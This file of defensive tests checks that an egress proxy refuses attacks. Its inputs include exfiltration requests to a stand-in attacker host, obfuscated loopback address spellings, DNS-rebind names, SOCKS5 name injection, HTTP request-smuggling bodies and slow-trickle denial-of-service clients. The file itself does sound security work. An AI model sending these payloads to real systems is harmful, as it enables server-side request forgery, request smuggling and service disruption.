// Attacks on the proxy from a command's side, one group per cause of issue 17, with hand-written
// HTTP and SOCKS5 clients against loopback servers. Every test has a canary or a log that an
// attack would touch: the test fails when the canary receives a byte or the log gains an entry.
import { afterEach, describe, expect, it } from "vitest";

import { loadFdPassing } from "../../../src/native/native-addon.js";
import { createKernelRelay } from "../../../src/exec/kernel-relay.js";
import {
  httpConnect,
  rawClient,
  recordingServer,
  serverAndCanary,
  socksConnect,
  socksDomainRequest,
  startProxy,
  statusOf,
  type Cleanup,
} from "./attack-harness.js";

const cleanups: Cleanup[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

describe("cause 1: a plain HTTP request goes over the connection that was checked", () => {
  it("an allowed [::1]:P request reaches ::1, never a canary on 127.0.0.1:P", async () => {
    const { server, canary } = await serverAndCanary(cleanups, "::1", "127.0.0.1", "six");
    const { httpPort } = await startProxy(cleanups, {
      allowedDomains: ["::1"],
      allowedLocalAddresses: ["::1"],
    });
    const client = await rawClient(cleanups, httpPort);
    client.send(`GET http://[::1]:${server.port}/x HTTP/1.1\r\nhost: [::1]:${server.port}\r\n\r\n`);
    const response = (await client.untilText("six\n")).toString();
    expect(canary.received().length).toBe(0);
    expect(canary.connections()).toBe(0);
    expect(statusOf(response)).toBe(200);
    expect(response).toContain("six\n");
  });

  it("an allowed name resolved to ::1 reaches ::1, never the canary", async () => {
    const { server, canary } = await serverAndCanary(cleanups, "::1", "127.0.0.1", "named");
    const { httpPort } = await startProxy(
      cleanups,
      { allowedDomains: ["allowed.test"] },
      { names: { "allowed.test": ["::1"] } },
    );
    const client = await rawClient(cleanups, httpPort);
    client.send(`GET http://allowed.test:${server.port}/ HTTP/1.1\r\nhost: allowed.test\r\n\r\n`);
    const response = await client.untilText("named\n");
    expect(canary.received().length).toBe(0);
    expect(statusOf(response)).toBe(200);
  });
});

describe("cause 2: SOCKS5 names are validated before the policy sees them", () => {
  it.each([
    ["a NUL byte", "localhost\0.allowed.test"],
    ["a newline", "localhost\n.allowed.test"],
    ["a space", "localhost .allowed.test"],
    ["a percent", "localhost%00.allowed.test"],
    ["a slash", "localhost/.allowed.test"],
    ["a backslash", "localhost\\.allowed.test"],
    ["an empty label", "localhost..allowed.test"],
    ["a high byte", "localhost\xff.allowed.test"],
  ])("a name with %s is refused, never resolved, never connected", async (_what, name) => {
    const canary = await recordingServer(cleanups, "127.0.0.1");
    const { socksPort, resolved } = await startProxy(
      cleanups,
      {
        allowedDomains: ["*.allowed.test"],
        deniedDomains: ["localhost"],
        allowedLocalAddresses: ["127.0.0.0/8"],
      },
      // The system resolver, as in production: it reads a C string, so it stops at a NUL.
      { systemResolver: true },
    );
    const { code } = await socksConnect(cleanups, socksPort, socksDomainRequest(name, canary.port));
    expect(canary.connections()).toBe(0);
    expect(code).not.toBe(0);
    expect(resolved).toEqual([]);
  });
});

describe("cause 3: nothing is resolved before the policy or a human allowed it", () => {
  it.each([
    ["the human says no", { answer: "deny" as const, approvals: "ask" as const }],
    ["nobody can be asked", { answer: "unreachable" as const, approvals: "ask" as const }],
    ["approvals are off", { answer: "allow-once" as const, approvals: "never" as const }],
  ])("when %s, the name is never resolved", async (_when, { answer, approvals }) => {
    const names = { "exfil.attacker.test": ["127.0.0.1"] };
    const { httpPort, socksPort, resolved } = await startProxy(
      cleanups,
      { approvals, allowedLocalAddresses: ["127.0.0.0/8"] },
      { answer, names },
    );
    const connect = await httpConnect(cleanups, httpPort, "secret.exfil.attacker.test:443");
    expect(connect.status).toBe(403);
    const client = await rawClient(cleanups, httpPort);
    client.send("GET http://secret2.exfil.attacker.test/ HTTP/1.1\r\nhost: x\r\n\r\n");
    expect(statusOf(await client.untilText("\r\n\r\n"))).toBe(403);
    const socks = await socksConnect(
      cleanups,
      socksPort,
      socksDomainRequest("secret3.exfil.attacker.test", 443),
    );
    expect(socks.code).toBe(2);
    expect(resolved).toEqual([]);
  });

  it("after a yes, the name is resolved once per request, and only then", async () => {
    const server = await recordingServer(cleanups, "127.0.0.1", {
      reply: (_data, socket) => socket.end("pong"),
    });
    const { httpPort, resolved, questions } = await startProxy(
      cleanups,
      { allowedLocalAddresses: ["127.0.0.0/8"] },
      { answer: "allow-once", names: { "asked.test": ["127.0.0.1"] } },
    );
    const connect = await httpConnect(cleanups, httpPort, `asked.test:${server.port}`);
    expect(connect.status).toBe(200);
    expect(questions.map((question) => question.target)).toEqual([
      `https://asked.test:${server.port}`,
    ]);
    expect(resolved).toEqual(["asked.test"]);
  });
});

describe("cause 4: a denied address is denied in every spelling and behind every name", () => {
  const spellings = [
    "127.1",
    "2130706433",
    "0x7f.0.0.1",
    "0177.0.0.1",
    "0x7f000001",
    "127.0.1",
    "127.000.000.001",
    "0X7F.0.0.1",
  ];
  const config = {
    allowedDomains: ["*"],
    deniedDomains: ["127.0.0.1"],
    allowedLocalAddresses: ["127.0.0.0/8"],
  };

  it.each(spellings)("CONNECT %s:P is refused", async (spelling) => {
    const canary = await recordingServer(cleanups, "127.0.0.1");
    const { httpPort } = await startProxy(cleanups, config, { systemResolver: true });
    const { status } = await httpConnect(cleanups, httpPort, `${spelling}:${canary.port}`);
    expect(canary.connections()).toBe(0);
    expect(status).not.toBe(200);
  });

  it.each(spellings)("SOCKS5 name %s is refused", async (spelling) => {
    const canary = await recordingServer(cleanups, "127.0.0.1");
    const { socksPort } = await startProxy(cleanups, config, { systemResolver: true });
    const { code } = await socksConnect(
      cleanups,
      socksPort,
      socksDomainRequest(spelling, canary.port),
    );
    expect(canary.connections()).toBe(0);
    expect(code).not.toBe(0);
  });

  it.each(spellings)("HTTP http://%s:P/ is refused", async (spelling) => {
    const canary = await recordingServer(cleanups, "127.0.0.1");
    const { httpPort } = await startProxy(cleanups, config, { systemResolver: true });
    const client = await rawClient(cleanups, httpPort);
    client.send(`GET http://${spelling}:${canary.port}/ HTTP/1.1\r\nhost: x\r\n\r\n`);
    const status = statusOf(await client.untilText("\r\n\r\n"));
    expect(canary.connections()).toBe(0);
    expect(status).not.toBe(200);
  });

  it("a name resolving to a denied address is refused over CONNECT, SOCKS5 and HTTP", async () => {
    const canary = await recordingServer(cleanups, "127.0.0.1");
    const { httpPort, socksPort } = await startProxy(cleanups, config, {
      names: { "rebind.test": ["127.0.0.1"] },
    });
    const connect = await httpConnect(cleanups, httpPort, `rebind.test:${canary.port}`);
    expect(connect.status).toBe(403);
    const socks = await socksConnect(
      cleanups,
      socksPort,
      socksDomainRequest("rebind.test", canary.port),
    );
    expect(socks.code).toBe(2);
    const client = await rawClient(cleanups, httpPort);
    client.send(`GET http://rebind.test:${canary.port}/ HTTP/1.1\r\nhost: x\r\n\r\n`);
    expect(statusOf(await client.untilText("\r\n\r\n"))).toBe(403);
    expect(canary.connections()).toBe(0);
  });

  it("an IPv4-mapped IPv6 spelling of a denied address is refused", async () => {
    const canary = await recordingServer(cleanups, "127.0.0.1");
    const { httpPort } = await startProxy(cleanups, config, { systemResolver: true });
    for (const spelling of ["[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:1]"]) {
      const { status } = await httpConnect(cleanups, httpPort, `${spelling}:${canary.port}`);
      expect(status).toBe(403);
    }
    expect(canary.connections()).toBe(0);
  });
});

describe("cause 5: a tunnel frees its slot when it ends", () => {
  it.each([
    ["the kernel relay", true],
    ["the JavaScript relay", false],
  ])("300 sequential CONNECT tunnels all work, over %s", async (_name, kernel) => {
    const server = await recordingServer(cleanups, "127.0.0.1", {
      reply: (data, socket) => socket.end(data),
    });
    const { httpPort } = await startProxy(
      cleanups,
      { allowedDomains: ["127.0.0.1"], allowedLocalAddresses: ["127.0.0.1"] },
      kernel ? { proxy: { relay: createKernelRelay(loadFdPassing()) } } : {},
    );
    for (let i = 0; i < 300; i++) {
      const { status, client } = await httpConnect(cleanups, httpPort, `127.0.0.1:${server.port}`);
      expect(status, `tunnel ${i}`).toBe(200);
      client.send(`ping ${i}`);
      const all = (await client.all()).toString();
      expect(all.endsWith(`ping ${i}`), `tunnel ${i}`).toBe(true);
      client.socket.destroy();
    }
  });

  it("300 sequential SOCKS5 tunnels all work over the kernel relay", async () => {
    const server = await recordingServer(cleanups, "127.0.0.1", {
      reply: (data, socket) => socket.end(data),
    });
    const { socksPort } = await startProxy(
      cleanups,
      { allowedDomains: ["127.0.0.1"], allowedLocalAddresses: ["127.0.0.1"] },
      { proxy: { relay: createKernelRelay(loadFdPassing()) } },
    );
    for (let i = 0; i < 300; i++) {
      const { code, client } = await socksConnect(
        cleanups,
        socksPort,
        socksDomainRequest("127.0.0.1", server.port),
      );
      expect(code, `tunnel ${i}`).toBe(0);
      client.send(`ping ${i}`);
      expect((await client.all()).toString().endsWith(`ping ${i}`), `tunnel ${i}`).toBe(true);
    }
  });

  it("the cap on open connections holds while they are open, and frees as they close", async () => {
    const server = await recordingServer(cleanups, "127.0.0.1");
    const { httpPort } = await startProxy(
      cleanups,
      { allowedDomains: ["127.0.0.1"], allowedLocalAddresses: ["127.0.0.1"] },
      { proxy: { relay: createKernelRelay(loadFdPassing()), maxConnectionsPerContext: 4 } },
    );
    const open = [];
    for (let i = 0; i < 4; i++) {
      const { status, client } = await httpConnect(cleanups, httpPort, `127.0.0.1:${server.port}`);
      expect(status).toBe(200);
      open.push(client);
    }
    const refused = await rawClient(cleanups, httpPort);
    await refused.all();
    expect(refused.closed()).toBe(true);
    for (const client of open) {
      client.socket.destroy();
    }
    // Freed: the next ones work again (the slots come back as the relays report their end).
    let status: number | undefined;
    for (let attempt = 0; attempt < 200 && status !== 200; attempt++) {
      const next = await httpConnect(cleanups, httpPort, `127.0.0.1:${server.port}`);
      status = next.status;
      next.client.socket.destroy();
      if (status !== 200) await new Promise((resolve) => setTimeout(resolve, 10));
    }
    expect(status).toBe(200);
  });
});

describe("cause 6: requests are forwarded with unambiguous framing, or refused", () => {
  const smuggled = "GET /smuggled HTTP/1.1\r\nhost: x\r\n\r\n";
  const chunk = `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;

  async function upstreamAndProxy() {
    const upstream = await recordingServer(cleanups, "127.0.0.1", {
      reply: (data, socket) => {
        if (data.includes("\r\n\r\n"))
          socket.write("HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok");
      },
    });
    const harness = await startProxy(cleanups, {
      allowedDomains: ["127.0.0.1"],
      allowedLocalAddresses: ["127.0.0.1"],
    });
    return { upstream, ...harness };
  }

  /** True when the upstream could read a request line for /smuggled out of what it got. */
  function sawSmuggled(received: Buffer): boolean {
    const text = received.toString("latin1");
    const framedChunked = /\r\ntransfer-encoding: chunked\r\n/i.test(text);
    return text.includes("GET /smuggled") && !framedChunked;
  }

  it.each(["GET", "HEAD", "TRACE"])(
    "%s with a chunked body is refused (400) and nothing reaches the upstream",
    async (method) => {
      const { upstream, httpPort } = await upstreamAndProxy();
      const client = await rawClient(cleanups, httpPort);
      client.send(
        `${method} http://127.0.0.1:${upstream.port}/ HTTP/1.1\r\nhost: 127.0.0.1\r\ntransfer-encoding: chunked\r\n\r\n${chunk}`,
      );
      const response = await client.untilText("\r\n\r\n");
      expect(sawSmuggled(upstream.received())).toBe(false);
      expect(upstream.connections()).toBe(0);
      expect(statusOf(response)).toBe(400);
    },
  );

  it("GET with a Content-Length body is refused (400) and nothing reaches the upstream", async () => {
    const { upstream, httpPort } = await upstreamAndProxy();
    const client = await rawClient(cleanups, httpPort);
    client.send(
      `GET http://127.0.0.1:${upstream.port}/ HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: ${smuggled.length}\r\n\r\n${smuggled}`,
    );
    const response = await client.untilText("\r\n\r\n");
    expect(upstream.connections()).toBe(0);
    expect(statusOf(response)).toBe(400);
  });

  it.each([
    ["Content-Length and Transfer-Encoding", "content-length: 5\r\ntransfer-encoding: chunked"],
    ["two Content-Lengths", "content-length: 5\r\ncontent-length: 6"],
    ["a Transfer-Encoding other than chunked", "transfer-encoding: gzip"],
    ["chunked twice", "transfer-encoding: chunked, chunked"],
    ["a Content-Length with a sign", "content-length: +5"],
  ])("POST with %s is refused (400) before any upstream connection", async (_what, headers) => {
    const { upstream, httpPort } = await upstreamAndProxy();
    const client = await rawClient(cleanups, httpPort);
    client.send(
      `POST http://127.0.0.1:${upstream.port}/ HTTP/1.1\r\nhost: 127.0.0.1\r\n${headers}\r\n\r\n${chunk}`,
    );
    const response = await client.untilText("\r\n\r\n");
    expect(upstream.connections()).toBe(0);
    expect(statusOf(response)).toBe(400);
  });

  it("a request line broken by a bare LF (parsed as HTTP/0.9) is refused", async () => {
    const { upstream, httpPort } = await upstreamAndProxy();
    const client = await rawClient(cleanups, httpPort);
    client.send(`GET http://127.0.0.1\nx:${upstream.port}/ HTTP/1.1\r\nhost: x\r\n\r\n`);
    const response = await client.untilText("\r\n\r\n");
    expect(upstream.connections()).toBe(0);
    expect(statusOf(response)).toBe(400);
  });

  it("POST with a chunked body is forwarded chunked, as one request", async () => {
    const { upstream, httpPort } = await upstreamAndProxy();
    const client = await rawClient(cleanups, httpPort);
    client.send(
      `POST http://127.0.0.1:${upstream.port}/ HTTP/1.1\r\nhost: 127.0.0.1\r\ntransfer-encoding: chunked\r\n\r\n${chunk}`,
    );
    const response = await client.untilText("ok");
    expect(statusOf(response)).toBe(200);
    const text = upstream.received().toString("latin1");
    expect(text).toMatch(/^POST \/ HTTP\/1\.1\r\n/);
    expect(text).toMatch(/\r\ntransfer-encoding: chunked\r\n/i);
    expect(text).not.toMatch(/\r\ncontent-length:/i);
    expect(sawSmuggled(upstream.received())).toBe(false);
  });

  it("POST with a Content-Length body is forwarded with that length", async () => {
    const { upstream, httpPort } = await upstreamAndProxy();
    const client = await rawClient(cleanups, httpPort);
    client.send(
      `POST http://127.0.0.1:${upstream.port}/ HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: ${smuggled.length}\r\n\r\n${smuggled}`,
    );
    const response = await client.untilText("ok");
    expect(statusOf(response)).toBe(200);
    const text = upstream.received().toString("latin1");
    expect(text).toMatch(new RegExp(`\\r\\ncontent-length: ${smuggled.length}\\r\\n`, "i"));
    expect(text).not.toMatch(/\r\ntransfer-encoding:/i);
  });
});

describe("cause 7: request heads and requests have deadlines that hold", () => {
  it("a trickled request head is cut off (408 or close), not kept open", async () => {
    const upstream = await recordingServer(cleanups, "127.0.0.1");
    const { httpPort } = await startProxy(
      cleanups,
      { allowedDomains: ["127.0.0.1"], allowedLocalAddresses: ["127.0.0.1"] },
      { proxy: { headersTimeoutMs: 300, idleTimeoutMs: 60_000 } },
    );
    const client = await rawClient(cleanups, httpPort);
    client.send(`GET http://127.0.0.1:${upstream.port}/ HTTP/1.1\r\nx-slow: `);
    // One byte every 20 ms for up to 60 s: far past any deadline, never idle.
    for (let i = 0; i < 3000 && !client.closed(); i++) {
      client.send("a");
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    expect(client.closed()).toBe(true);
    expect(upstream.connections()).toBe(0);
  }, 90_000);

  it("with the default settings too, a trickled CONNECT head is cut off", async () => {
    const upstream = await recordingServer(cleanups, "127.0.0.1");
    const { httpPort } = await startProxy(cleanups, {
      allowedDomains: ["127.0.0.1"],
      allowedLocalAddresses: ["127.0.0.1"],
    });
    const client = await rawClient(cleanups, httpPort);
    client.send(`CONNECT 127.0.0.1:${upstream.port} HTTP/1.1\r\nx-slow: `);
    // One byte every 50 ms for up to 45 s: past the 10 s default, never idle.
    for (let i = 0; i < 900 && !client.closed(); i++) {
      client.send("a");
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    expect(client.closed()).toBe(true);
    expect(upstream.connections()).toBe(0);
  }, 90_000);

  it("a trickled request body is cut off", async () => {
    const upstream = await recordingServer(cleanups, "127.0.0.1");
    const { httpPort } = await startProxy(
      cleanups,
      { allowedDomains: ["127.0.0.1"], allowedLocalAddresses: ["127.0.0.1"] },
      { proxy: { headersTimeoutMs: 300, requestTimeoutMs: 600, idleTimeoutMs: 60_000 } },
    );
    const client = await rawClient(cleanups, httpPort);
    client.send(
      `POST http://127.0.0.1:${upstream.port}/ HTTP/1.1\r\nhost: x\r\ncontent-length: 100000\r\n\r\n`,
    );
    for (let i = 0; i < 3000 && !client.closed(); i++) {
      client.send("a");
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    expect(client.closed()).toBe(true);
  }, 90_000);

  it("a trickled SOCKS5 handshake is cut off", async () => {
    const { socksPort } = await startProxy(
      cleanups,
      { allowedDomains: ["127.0.0.1"] },
      { proxy: { headersTimeoutMs: 300, idleTimeoutMs: 60_000 } },
    );
    const client = await rawClient(cleanups, socksPort);
    // A greeting announcing 255 methods, sent one byte at a time: it never completes in time.
    const request = Buffer.from([5, 255, ...Array<number>(255).fill(1)]);
    for (let i = 0; i < request.length && !client.closed(); i++) {
      client.send(request.subarray(i, i + 1));
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    expect(client.closed()).toBe(true);
  }, 90_000);
});

describe("caps: one command's flood leaves the others served", () => {
  it("a command at its connection cap is refused more; another command still gets through", async () => {
    const server = await recordingServer(cleanups, "127.0.0.1", {
      reply: (data, socket) => socket.end(data),
    });
    const config = { allowedDomains: ["127.0.0.1"], allowedLocalAddresses: ["127.0.0.1"] };
    const flooder = await startProxy(cleanups, config, {
      proxy: { maxConnectionsPerContext: 16 },
    });
    // The other command: a second context on the same proxy.
    const otherContext = { command: "other", ask: () => Promise.resolve("deny" as const) };
    const otherListener = await flooder.proxy.listen("http", otherContext, 0);
    cleanups.push(async () => {
      flooder.proxy.closeContext(otherContext);
      await new Promise((resolve) => otherListener.close(resolve));
    });
    // 16 idle connections that never finish a head, and 16 more that are refused at once.
    const idle = [];
    for (let i = 0; i < 32; i++) {
      const client = await rawClient(cleanups, flooder.httpPort);
      client.send("GET http://127.0.0.1/ HTTP/1.1\r\n");
      idle.push(client);
    }
    const refused = idle.slice(16);
    await Promise.all(refused.map((client) => client.all()));
    expect(idle.slice(0, 16).every((client) => !client.closed())).toBe(true);
    const otherPort = (otherListener.address() as { port: number }).port;
    const { status, client } = await httpConnect(cleanups, otherPort, `127.0.0.1:${server.port}`);
    expect(status).toBe(200);
    client.send("still served");
    expect((await client.all()).toString()).toContain("still served");
  });

  it("a request head over 32 KiB is refused before any upstream connection", async () => {
    const upstream = await recordingServer(cleanups, "127.0.0.1");
    const { httpPort } = await startProxy(cleanups, {
      allowedDomains: ["127.0.0.1"],
      allowedLocalAddresses: ["127.0.0.1"],
    });
    const client = await rawClient(cleanups, httpPort);
    client.send(
      `GET http://127.0.0.1:${upstream.port}/ HTTP/1.1\r\nx-big: ${"a".repeat(40 * 1024)}\r\n\r\n`,
    );
    const response = await client.all();
    expect(upstream.connections()).toBe(0);
    expect([400, 431]).toContain(statusOf(response));
  });
});
